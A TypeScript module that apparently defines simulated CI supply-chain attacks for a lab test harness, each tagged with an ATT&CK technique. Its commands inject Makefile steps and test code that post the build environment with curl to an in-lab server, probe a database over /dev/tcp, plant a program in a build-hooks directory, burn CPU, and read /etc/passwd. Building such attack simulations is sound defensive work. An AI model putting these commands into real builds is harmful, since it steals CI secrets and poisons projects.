import type { ProgramResult } from '../../support/container/run-program.ts';
import type { Attack, AttackScene } from './attack.ts';

/** Changes the project, builds it once, takes the change back. */
const built = (change: string): Pick<Attack, 'act' | 'after'> => ({
  act: async (scene) => {
    await pushed(scene, change);
    return await scene.build();
  },
  after: (scene) =>
    pushed(scene, 'git revert --no-edit --quiet HEAD 2>/dev/null || git revert --no-edit HEAD >/dev/null'),
});

/** Without a commit of its own where the change is one already. */
async function pushed({ exec }: AttackScene, change: string): Promise<ProgramResult> {
  const script = `set -e; export GIT_CONFIG_GLOBAL=/srv/gitconfig; cd /srv/tiny; ${change}; git add --all; git diff --cached --quiet || git commit --quiet --message=update; git push --quiet /srv/git/tiny HEAD:main`;
  const done = await exec('git', ['bash', '-c', script]);
  if (done.code !== 0) throw new Error(`the project can not be changed: ${done.stderr}`);
  return done;
}

const inBuild = (id: string, technique: string, title: string, change: string, more: Partial<Attack> = {}): Attack => ({
  id,
  technique,
  title,
  entry: 'supply',
  shows: ['ci'],
  touches: ['git'],
  ...built(change),
  ...more,
});

/** Puts a command before the step that compiles. */
const step = (command: string) => `printf 'sum.o: stolen\\nstolen:\\n\\t@${command}\\n.PHONY: stolen\\n' >>Makefile`;

/** Puts C into the program that tests: compiled and run by the build itself. */
const inTest = (code: string) =>
  `sed -i 's|int main(void) {|#include <stdlib.h>\\n#include <time.h>\\nint main(void) {\\n${code}|' test.c`;

/** Trojans in what is built. */
export const BUILD_ATTACKS: readonly Attack[] = [
  inBuild(
    'ci-token-theft',
    'T1195.002',
    'a step of the build posts the environment to the git server',
    step('tr "\\\\0" " " </proc/self/environ | curl --silent --max-time 2 --data-binary @- http://git:9418/ || true'),
  ),
  inBuild(
    'ci-lateral',
    'T1021',
    'a step of the build tries the database',
    step('timeout 3 bash -c "exec 3<>/dev/tcp/db/5432" || true'),
    { touches: ['git', 'db'] },
  ),
  inBuild(
    'ci-burn',
    'T1496',
    'the test computes for half a minute',
    inTest('for (time_t end = time(0) + 30; time(0) < end;);'),
  ),
  inBuild(
    'ci-poisoned-cache',
    'T1195.001',
    'a step leaves a program for the builds to come',
    step('mkdir -p /builds/.hooks && cp /usr/bin/env /builds/.hooks/cc && chmod 755 /builds/.hooks/cc'),
  ),
  inBuild(
    'ci-test-shell',
    'T1059.004',
    'the test runs a shell',
    inTest('if (system("id; cat /etc/passwd >/dev/null; ls /root")) return 1;'),
  ),
];
